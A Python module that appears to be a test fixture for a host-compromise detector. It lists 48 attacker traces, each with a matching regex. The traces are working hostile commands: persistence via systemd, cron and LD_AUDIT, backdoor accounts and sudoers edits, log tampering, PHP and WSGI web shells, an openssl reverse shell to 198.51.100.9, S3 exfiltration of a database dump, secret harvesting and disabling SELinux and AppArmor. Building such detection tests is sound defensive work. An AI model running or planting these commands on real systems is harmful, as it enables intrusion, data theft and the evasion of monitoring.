"""Traces spread over everything that starts by itself, accounts, logs, network, mounts, namespaces, names, times, containers
and sites, written without a look at the rules and counted once before any rule was changed for them.
"""

from __future__ import annotations

from .trace import Trace, trace

_WEB = "/var/www/html"
_ID = "9f3c51d07ab2" * 5 + "9f3c"
_HISTORY = "/home/anna/.bash_history"
_UNIX = (
    "import socket, signal; s = socket.socket(socket.AF_UNIX); s.bind('/run/dbus/.sys'); s.listen(); signal.pause()"
)
_CLIENT = (
    'import os, socket, signal; os.unlink("/home/anna/n9.py"); s = socket.create_connection(("127.0.0.1", 22)); '
    "signal.pause()"
)
_BTMP = (
    "import struct, time; r = lambda t: struct.pack('<hxxi32s4s32s256shhiii4i20x', 6, 77, b'ssh', b'', b'root', "
    "b'198.51.100.9', 0, 0, 0, t, 0, 0, 0, 0, 0); n = int(time.time()) - 800000; "
    "open('/var/log/btmp', 'wb').write(r(n) * 3 + bytes(384) * 4 + r(n + 90000) * 3)"
)
_PYC = (
    "import importlib.util as u, marshal; "
    "open(u.cache_from_source('/usr/lib/python3.11/uu.py'), 'wb').write(u.MAGIC_NUMBER + bytes((1, 0, 0, 0)) + "
    "bytes(8) + marshal.dumps(compile('X = 9', 'uu.py', 'exec')))"
)


def _typed(id_: str, line: str, cited: str) -> Trace:
    return trace(id_, "history", f"printf '%s\\n' '{line}' >>{_HISTORY}", cited)


THIRD: tuple[Trace, ...] = (
    trace("T01", "systemd", "put /etc/systemd/system/service.d/10-accounting.conf '[Service]\nExecStopPost=-/usr/libexec/svc-acct %n'; prog /usr/libexec/svc-acct", r"10-accounting"),
    trace("T02", "systemd", "put /usr/lib/systemd/system-shutdown/50-sync.shutdown '#!/bin/sh\nmount -o remount,rw / && /usr/share/misc/rest'; chmod 755 /usr/lib/systemd/system-shutdown/50-sync.shutdown", r"50-sync\.shutdown"),
    trace("T03", "cron", "put /var/spool/cron/crontabs/man 'PATH=/var/lib/misc/bin:/usr/sbin:/usr/bin\n0 0 31 2 * run-parts --report /etc/cron.load'; prog /var/lib/misc/bin/run-parts", r"crontabs/man\b|misc/bin/run-parts"),
    trace("T04", "loader", "put /home/anna/.config/environment.d/10-gtk.conf 'LD_AUDIT=/home/anna/.local/lib/gtk-a11y.so'", r"10-gtk\.conf"),
    trace("T05", "interpreter", f'mkdir -p /usr/lib/python3.11/__pycache__; python3 -c "{_PYC}"; old /usr/lib/python3.11/__pycache__/uu.*.pyc', r"__pycache__/uu\."),
    trace("T06", "hook", "put /etc/audit/plugins.d/relay.conf 'active = yes\ndirection = out\npath = /usr/sbin/audisp-relay\ntype = always'; prog /usr/sbin/audisp-relay", r"plugins\.d/relay\.conf"),
    trace("T07", "shell", "put /home/anna/.config/fish/config.fish 'nohup /home/anna/.local/state/fishd >/dev/null 2>&1 &'; prog /home/anna/.local/state/fishd", r"config\.fish"),
    trace("T08", "apache", "put /etc/apache2/conf-enabled/maps.conf 'RewriteEngine On\nRewriteMap up \"prg:/usr/share/misc/upmap\"'; prog /usr/share/misc/upmap", r"conf-enabled/maps\.conf"),
    trace("T09", "account", "printf 'backup-svc:x:34:34::/var/backups:/bin/bash\n' >>/etc/passwd", r"backup-svc"),
    trace("T10", "account", "printf 'Cmnd_Alias MAINT9 = /usr/bin/less /var/log/*\nanna ALL=(root) NOPASSWD: MAINT9\n' >>/etc/sudoers", r"MAINT9|/etc/sudoers(?!\.d)"),
    trace("T11", "account", "put /etc/doas.conf 'permit nopass keepenv anna as root'", r"/etc/doas\.conf"),
    trace("T12", "account", "sed -i '1a auth sufficient pam_wheel.so trust use_uid group=games' /etc/pam.d/su-l; old /etc/pam.d/su-l", r"pam\.d/su-l"),
    trace("T13", "logging", "put /etc/audit/rules.d/00-quiet.rules '-a never,task\n-e 0'", r"00-quiet\.rules"),
    trace("T14", "logging", "printf 'export HISTIGNORE=\"*\"\n' >>/root/.bash_profile; old /root/.bash_profile", r"/root/\.bash_profile"),
    trace("T15", "log-tamper", f'python3 -c "{_BTMP}"', r"/var/log/btmp|\bbtmp\b"),
    trace("T16", "log-tamper", "{ head -c 4096 /dev/zero; printf '%s spare cups[88]: started\n' \"$(date -d '2 days ago' +%Y-%m-%dT%H:%M:%S+00:00)\"; } >/var/log/lpr.log", r"/var/log/lpr\.log"),
    trace("T17", "network", "echo '198.51.100.9 pypi.org files.pythonhosted.org registry.npmjs.org' >>/etc/hosts", r"pypi\.org"),
    trace("T18", "network", "nft 'add table ip nt7; add chain ip nt7 out { type nat hook output priority -100; }; add rule ip nt7 out ip daddr 198.51.100.99 udp dport 53 dnat to 198.51.100.9:5353'", r"dnat to 198\.51\.100\.9"),
    trace("T19", "network", f'run python3 -c "{_UNIX}"', r"/run/dbus/\.sys"),
    trace("T20", "network", f"put /home/anna/n9.py '{_CLIENT}'; run setpriv --reuid anna --clear-groups python3 /home/anna/n9.py", r"n9\.py"),
    trace("T21", "hiding", "mount --bind /bin/true /usr/bin/lsns", r"/usr/bin/lsns"),
    trace("T22", "hiding", "put /etc/systemd/system/usr-games.mount '[Mount]\nWhat=/home/anna/.m\nWhere=/usr/games\nType=none\nOptions=bind\n[Install]\nWantedBy=local-fs.target'", r"usr-games\.mount"),
    trace("T23", "hiding", "mkdir -p /var/lib/misc/p9; mount -t proc proc /var/lib/misc/p9", r"/var/lib/misc/p9"),
    trace("T24", "namespace", "run unshare -m sh -c 'mount -t tmpfs none /var/cache/ldconfig; exec sleep 920001'", r"920001|/var/cache/ldconfig"),
    trace("T25", "namespace", "ip netns add ghost9; run ip netns exec ghost9 sleep 920002", r"920002|ghost9"),
    trace("T26", "namespace", "mkdir -p /var/lib/misc/jail; mount --bind / /var/lib/misc/jail; run chroot /var/lib/misc/jail sleep 920003", r"920003|/var/lib/misc/jail"),
    trace("T27", "name", "prog '/usr/lib/syst\u0435md/networkd'", r"/usr/lib/syst(\\u0435|\u0435)md"),
    trace("T28", "name", "put /var/lib/.../x x", r"/var/lib/\.\.\.(?!\.)"),
    trace("T29", "name", "printf '0 0 31 2 * /usr/share/misc/pc;\\rno crontab for games     \\n' >/var/spool/cron/crontabs/games; old /var/spool/cron/crontabs/games", r"crontabs/games"),
    trace("T30", "time", "put /usr/local/bin/rotate9 '#!/bin/sh\n:'; chmod 755 /usr/local/bin/rotate9; touch -d '2 years' /usr/local/bin/rotate9", r"rotate9"),
    trace("T31", "time", "mkdir -p /opt/app3; for n in $(seq 40); do echo \"X = $n\" >/opt/app3/mod$n.py; touch -d \"$n days ago\" /opt/app3/mod$n.py; done; echo 'X = 9' >/opt/app3/cachex.py; touch -d '2011-01-01 00:00:00' /opt/app3/cachex.py", r"cachex\.py"),
    trace("T32", "container", "put /var/lib/kubelet/config.yaml 'kind: KubeletConfiguration\nauthentication:\n  anonymous: {enabled: true}\nauthorization:\n  mode: AlwaysAllow'", r"kubelet/config\.yaml"),
    trace("T33", "container", f"put /var/lib/docker/containers/{_ID}/config.v2.json '{{\"Name\": \"/cachesvc\", \"Path\": \"/bin/sh\"}}'; put /var/lib/docker/containers/{_ID}/hostconfig.json '{{\"Binds\": [\"/:/host\"], \"Privileged\": true, \"PidMode\": \"host\", \"RestartPolicy\": {{\"Name\": \"always\"}}}}'", r"9f3c51d0|cachesvc"),
    trace("T34", "container", "put /home/anna/.config/containers/containers.conf '[engine]\nhooks_dir = [\"/home/anna/.h\"]\nhelper_binaries_dir = [\"/home/anna/.hb\"]'", r"containers/containers\.conf"),
    trace("T35", "container", "put /var/lib/lxc/sys9/config 'lxc.rootfs.path = dir:/var/lib/lxc/sys9/rootfs\nlxc.mount.entry = / host none bind\nlxc.start.auto = 1\nlxc.apparmor.profile = unconfined'", r"lxc/sys9"),
    trace("T36", "container", "put /etc/containers/registries.conf.d/00-near.conf '[[registry]]\nprefix = \"docker.io\"\nlocation = \"198.51.100.9:5000\"\ninsecure = true'", r"00-near\.conf"),
    trace("T37", "web", f"put {_WEB}/mod/tax9.php '<?php $x = array_filter((array) @$_POST[\"q\"], base64_decode(\"c3lzdGVt\"));'", r"tax9"),
    trace("T38", "web", f"put {_WEB}/mod/view9.php '<?php ob_start($_GET[\"c\"]); echo $_GET[\"a\"]; ob_end_flush();'", r"view9"),
    trace("T39", "web", "put /srv/api/app.wsgi 'import base64, zlib\nexec(zlib.decompress(base64.b64decode(\"eJwrsyUCAAYAAe8=\")))\ndef application(e, s): return []'", r"app\.wsgi"),
    trace("T40", "web", "put /opt/api4/index.js 'const e = require(\"express\")();\ne.use((q, r, n) => { if (q.headers[\"x-a\"]) r.send(String(new Function(q.headers[\"x-a\"])())); else n(); });'", r"api4/index\.js"),
    _typed("T41", "mkfifo /var/tmp/s; sh -i </var/tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.9:443 >/var/tmp/s", r"openssl s_client"),
    _typed("T42", "aws s3 cp /var/backups/db.sql s3://x9-drop/ --no-sign-request", r"s3://x9-drop"),
    _typed("T43", "echo \"anna ALL=(ALL) NOPASSWD: ALL\" > /etc/sudoers.d/z", r"sudoers\.d/z\b"),
    _typed("T44", "sshpass -p Winter2024 ssh root@10.0.0.7", r"sshpass"),
    _typed("T45", "grep -rniE \"passw|secret\" /var/www /home /etc 2>/dev/null", r"grep -rniE"),
    _typed("T46", "kubectl get secrets -A -o yaml", r"kubectl get secrets"),
    trace("T47", "credential", "put /usr/share/zoneinfo/.k '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----'", r"zoneinfo/\.k"),
    trace("T48", "evasion", "mkdir -p /etc/apparmor.d/disable; ln -s /etc/apparmor.d/usr.sbin.apache2 /etc/apparmor.d/disable/usr.sbin.apache2; put /etc/selinux/config 'SELINUX=disabled'", r"apparmor\.d/disable|selinux/config"),
)  # fmt: skip
